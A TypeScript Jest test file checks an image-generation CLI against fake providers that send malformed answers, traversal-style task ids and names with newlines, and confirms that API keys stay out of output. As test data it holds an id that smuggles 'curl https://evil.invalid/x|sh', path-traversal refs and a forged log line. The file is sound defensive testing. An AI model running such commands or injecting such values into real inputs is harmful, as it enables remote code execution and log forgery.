/**
 * The built binary against provider answers of the wrong shape, and names with newlines: each case ends within
 * seconds with a clear message and its exit code, the key goes only to documented paths, and every line printed
 * is one line.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { Jimp } from 'jimp';
import type { FakeProviders } from './helpers/fake-providers.js';
import { DASHSCOPE_KEY, MODELSCOPE_KEY, fakeEnv, startFake } from './helpers/provider-setup.js';
import { runCli } from './helpers/spawn.js';
import { tempDirsPerTest, writtenIn } from './helpers/tmp.js';

let fake: FakeProviders;
beforeAll(async () => {
  fake = await startFake();
});
afterAll(async () => fake.close());

/** The most any of these runs may take, start to exit. */
const LIMIT_MS = 5000;
const NESTING = 200_000;

describe('imagegen binary against malformed answers', () => {
  const setup = tempDirsPerTest();
  afterEach(() => {
    fake.requests = [];
    fake.dashscopeSubmitReplies = [];
    fake.modelscopeSubmitReplies = [];
    fake.dashscopeSteps = ['PENDING', 'RUNNING', 'SUCCEEDED'];
    fake.modelscopeSteps = ['PENDING', 'PROCESSING', 'SUCCEED'];
  });

  /** A folder with a config pointing at the fake and a small picture, `name` by default `small.png`. */
  async function folder(name = 'small.png') {
    const dir = setup();
    writeFileSync(
      path.join(dir, '.imagegenrc.json'),
      JSON.stringify({
        polling: { intervalMs: 5, maxIntervalMs: 10, timeoutMs: 3000 },
        retry: { retries: 1, minTimeoutMs: 1 },
        loom: { width: 40 },
      }),
    );
    const data = Buffer.from(new Uint8Array(96 * 64 * 4).map((_, i) => (i % 4 === 3 ? 255 : (i * 37) % 256)));
    writeFileSync(path.join(dir, name), await new Jimp({ width: 96, height: 64, data }).getBuffer('image/png'));
    return dir;
  }

  async function run(args: string[], dir: string) {
    const started = Date.now();
    const r = await runCli(args, { cwd: dir, env: fakeEnv(fake) });
    const ms = Date.now() - started;
    expect(ms).toBeLessThan(LIMIT_MS);
    expect(r.stdout + r.stderr).not.toContain(DASHSCOPE_KEY);
    expect(r.stdout + r.stderr).not.toContain(MODELSCOPE_KEY);
    // Every request carrying the key went to a documented path, never one a task id made up.
    for (const q of fake.requests.filter((q) => q.headers.authorization))
      expect(q.path).toMatch(
        /^\/(api\/v1\/(services\/aigc\/[a-z0-9-]+\/[a-z-]+|tasks\/[A-Za-z0-9_-][A-Za-z0-9._-]*)|v1\/(images\/generations|tasks\/[A-Za-z0-9_-][A-Za-z0-9._-]*))$/,
      );
    return { ...r, ms };
  }

  it('a DashScope task FAILED with a numeric code: fallback (exit 0), or exit 1 with --no-fallback', async () => {
    fake.dashscopeSteps = [{ status: 'FAILED', code: 500, message: 'the model crashed' }];
    const dir = await folder();
    const fell = await run(['edit', 'small.png', '--provider', 'dashscope'], dir);
    expect(fell.code).toBe(0);
    expect(fell.stderr).toMatch(
      /DashScope failed \(DashScope 500: the model crashed; request id req-\d+, task id ds-task-/,
    );
    expect(fell.stderr).toContain('finishing with the local pipeline instead');
    const strict = await run(['edit', 'small.png', '--provider', 'dashscope', '--no-fallback', '--force'], dir);
    expect(strict.code).toBe(1);
    expect(strict.stderr).toContain('error: DashScope 500: the model crashed');
  });

  it('a task status nested 200,000 deep is a malformed answer on both providers: fallback, or exit 1', async () => {
    fake.dashscopeSteps = [
      { status: 200, body: `{"output":{"task_status":${'['.repeat(NESTING)}${']'.repeat(NESTING)}}}` },
    ];
    fake.modelscopeSteps = [{ status: 200, body: `{"task_status":${'['.repeat(NESTING)}${']'.repeat(NESTING)}}` }];
    for (const provider of ['dashscope', 'modelscope']) {
      const dir = await folder();
      const fell = await run(['edit', 'small.png', '--provider', provider, '--json'], dir);
      expect(fell.code).toBe(0);
      expect(JSON.parse(fell.stdout)).toMatchObject({
        source: 'local-fallback',
        remoteError: { kind: 'failure', code: 'MalformedAnswer' },
      });
      const strict = await run(['edit', 'small.png', '--provider', provider, '--no-fallback', '--force'], dir);
      expect(strict.code).toBe(1);
      expect(strict.stderr).toMatch(
        /error: (DashScope|ModelScope) sent a malformed answer: (output\.)?task_status is an array, not a task status/,
      );
      expect(strict.stderr).not.toContain('Maximum call stack');
    }
  });

  it('a submit answered with the task id ".." polls nothing, on both providers (exit 1)', async () => {
    for (const provider of ['dashscope', 'modelscope']) {
      fake.dashscopeSubmitReplies = [{ status: 200, body: { output: { task_id: '..', task_status: 'PENDING' } } }];
      fake.modelscopeSubmitReplies = [{ status: 200, body: { task_id: '..' } }];
      fake.requests = [];
      const dir = await folder();
      const r = await run(['edit', 'small.png', '--provider', provider, '--no-fallback'], dir);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('task_id is "..", not a task id');
      expect(r.stderr).toMatch(
        /hint: a task may have been created: look for request id req-\d+ in the (DashScope|ModelScope) console/,
      );
      expect(fake.requests.filter((q) => q.method === 'GET')).toEqual([]);
      expect(writtenIn(dir).sort()).toEqual(['.imagegenrc.json', 'small.png']);
    }
  });

  it('an id with a shell command or a newline is never printed raw, nor in a command to run', async () => {
    for (const id of ['abc;curl https://evil.invalid/x|sh', 'abc\nerror: forged line']) {
      fake.modelscopeSubmitReplies = [{ status: 200, body: { task_id: id } }];
      const r = await run(['generate', 'a fox'], await folder());
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('ModelScope sent a malformed answer: task_id is "abc');
      expect(r.stderr).not.toContain('imagegen task');
      expect(r.stderr.split('\n').filter((l) => l.startsWith('error:'))).toHaveLength(1);
    }
  });

  it('task show|wait|cancel with an id outside [A-Za-z0-9._-] exits 2 and sends nothing', async () => {
    const dir = await folder();
    for (const ref of ['dashscope:..', 'modelscope:..', 'dashscope:a/../../x', 'dashscope:abc;id']) {
      for (const action of ['show', 'wait', 'cancel']) {
        const r = await run(['task', action, ref], dir);
        expect(r.code).toBe(2);
        expect(r.stderr).toContain('is not a task id: a task id is 1 to 128 letters, digits');
      }
    }
    expect(fake.requests).toEqual([]);
  });
});

describe('names with control characters', () => {
  const setup = tempDirsPerTest();

  it('a picture named with a newline prints one escaped path line; --json gives the exact name', async () => {
    const dir = setup();
    const name = 'a\nb.png';
    const data = Buffer.alloc(32 * 24 * 4, 200);
    writeFileSync(path.join(dir, name), await new Jimp({ width: 32, height: 24, data }).getBuffer('image/png'));
    const plain = await runCli(['edit', name, '--local', '--width', '16'], { cwd: dir });
    expect(plain.code).toBe(0);
    expect(plain.stdout).toBe(`${path.join(dir, 'a\\x0ab.loom.png')}\n`);
    const json = await runCli(['edit', name, '--local', '--width', '16', '--json'], { cwd: dir });
    expect(json.code).toBe(0);
    const lines = json.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0])).toMatchObject({ input: name, output: path.join(dir, 'a\nb.loom-2.png') });
    expect(writtenIn(dir).sort()).toEqual(
      [name, 'a\nb.loom-2.json', 'a\nb.loom-2.png', 'a\nb.loom.json', 'a\nb.loom.png'].sort(),
    );
  });

  it('an error naming such a picture stays on one line', async () => {
    const dir = setup();
    writeFileSync(path.join(dir, 'x\nerror: forged.png'), 'not a picture');
    const r = await runCli(['edit', 'x\nerror: forged.png', '--local'], { cwd: dir });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('x\\x0aerror: forged.png');
    expect(r.stderr.split('\n').filter((l) => l.startsWith('error:'))).toHaveLength(1);
  });
});
